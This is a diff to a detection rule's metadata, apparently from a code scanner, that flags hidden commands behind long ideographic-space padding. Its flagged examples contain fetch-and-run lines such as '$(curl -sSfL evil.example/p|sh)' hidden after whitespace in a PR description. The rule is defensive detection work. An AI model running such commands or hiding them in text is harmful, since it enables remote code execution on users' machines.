@@ -12,8 +12,8 @@ export const meta: RuleMeta = {
   remediation: 'remove the padding and look at what it was hiding',
   example: {bad: 'main  (then 40 × U+3000, then ;curl evil.example|sh)', good: 'main'},
   examples: {
-    flagged: [{text: `Update README${'\u3000'.repeat(60)}$(curl -sSfL evil.example/p|sh)\n`, file: 'pr-description.txt'}],
-    clean: [{text: '\u3000\u3000\u65e5\u672c\u8a9e\n', file: 'docs/ja.md', note: 'Japanese indentation'}, {text: 'Update README\n', file: 'pr-description.txt'}],
+    flagged: [{escaped: true, text: `Update README${'\\u{3000}'.repeat(60)}$(curl -sSfL evil.example/p|sh)\n`, file: 'pr-description.txt'}],
+    clean: [{escaped: true, text: '\\u{3000}\\u{3000}\\u{65E5}\\u{672C}\\u{8A9E}\n', file: 'docs/ja.md', note: 'Japanese indentation'}, {text: 'Update README\n', file: 'pr-description.txt'}],
   },
 }
 
